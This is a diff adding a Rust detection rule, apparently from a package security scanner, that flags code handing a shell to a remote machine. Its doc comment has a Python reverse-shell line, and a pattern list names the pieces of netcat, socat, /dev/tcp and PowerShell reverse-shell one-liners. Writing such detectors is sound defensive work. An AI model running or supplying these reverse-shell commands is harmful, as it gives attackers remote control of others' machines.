@@ -1,0 +1,95 @@
+//! # A shell is handed to another machine
+//!
+//! ## What it finds
+//! A connection whose descriptors become the standard streams of a shell, or a shell one-liner that does the same.
+//!
+//! ## Why it matters
+//! There is no honest use of it in a package.
+//!
+//! ## Example
+//! ```python
+//! s.connect((host, 4444)); os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh", "-i"])
+//! ```
+//!
+//! ## What to do
+//! Treat the machine as compromised.
+//!
+//! ## When it is wrong
+//! Tools for penetration tests ship such code, to be run when called.
+use foretaste_engine::prelude::*;
+
+declare_rule! {
+    ReverseShell,
+    id: "reverse-shell",
+    title: "hands a shell to another machine",
+    group: Chain,
+    severity: Critical,
+    confidence: High,
+    needs: [Code],
+    tags: ["T1059", "T1071", "AV-001"],
+    since: "0.1.0",
+}
+
+/// Parts of shell one-liners that connect a shell to a socket.
+const ONE_LINERS: &[&[&str]] = &[
+    &["/dev/tcp/", "sh"],
+    &["nc ", " -e ", "sh"],
+    &["ncat ", " -e ", "sh"],
+    &["mkfifo ", "nc ", "sh"],
+    &["socat ", "exec:", "sh"],
+    &["net.sockets.tcpclient", "iex"],
+];
+
+impl FileRule for ReverseShell {
+    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        for flow in &file.facts.flows {
+            let has =
+                |wanted: &[Capability]| flow.steps.iter().any(|s| wanted.contains(&s.capability));
+            let socket = has(&[Capability::NetworkSocket]);
+            let redirect = has(&[Capability::ProcessRedirect]);
+            let shell = has(&[Capability::ProcessShell, Capability::ProcessSpawn]);
+            if !socket || !(redirect || (shell && flow.link != FlowLink::Scope)) {
+                continue;
+            }
+            let chain = Chain {
+                file: file.clone(),
+                flow,
+            };
+            let context = chain.context();
+            let mut finding = self
+                .finding(format!(
+                    "connects a shell to another machine {}",
+                    context.phrase()
+                ))
+                .context(context);
+            finding.evidence = chain.evidence(|step| step.api.to_string());
+            findings.push(finding);
+        }
+        for literal in file
+            .facts
+            .literals
+            .iter()
+            .filter(|l| l.kind == LiteralKind::Command)
+        {
+            let lower = literal.value.to_lowercase();
+            if ONE_LINERS
+                .iter()
+                .any(|parts| parts.iter().all(|p| lower.contains(p)))
+            {
+                let context = file.context(literal.function);
+                let message = format!(
+                    "holds a reverse-shell command line that runs {}",
+                    context.phrase()
+                );
+                findings.push(
+                    self.finding(message)
+                        .context(context)
+                        .evidence(file.literal_evidence(literal, "reverse shell")),
+                );
+            }
+        }
+        findings.truncate(4);
+        findings
+    }
+}
